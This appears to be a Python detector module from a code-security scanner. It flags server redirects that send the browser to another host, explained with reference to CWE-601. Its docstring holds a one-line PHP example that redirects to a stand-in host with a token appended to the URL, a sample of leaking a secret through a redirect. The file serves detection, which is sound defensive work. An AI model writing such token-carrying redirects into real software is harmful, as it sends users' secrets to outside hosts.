"""# redirect-to-host.

## What it does
Lists redirects whose target names a host other than the own server.

## Why is this bad
The browser carries whatever stands in the URL to the other host; so a redirect is a way out even where the server
itself may not call the Internet.

## Example
```php
header("Location: https://stats.example.net/?k=" . $token);
```

## References
- CWE-601
"""

from __future__ import annotations

from scanner.analysis.summary import Hit
from scanner.detectors.base import Detector, Scene, rule
from scanner.detectors.egress import egress_findings
from scanner.model.finding import Category, Finding

RULE = rule("redirect-to-host", Category.EGRESS, "Browser sent to another host", __doc__)


def _wanted(hit: Hit) -> bool:
    return hit.signature.kind == "redirect"


def _find(scene: Scene) -> list[Finding]:
    return list(egress_findings(scene, RULE, _wanted))


DETECTOR = Detector(RULE, _find)
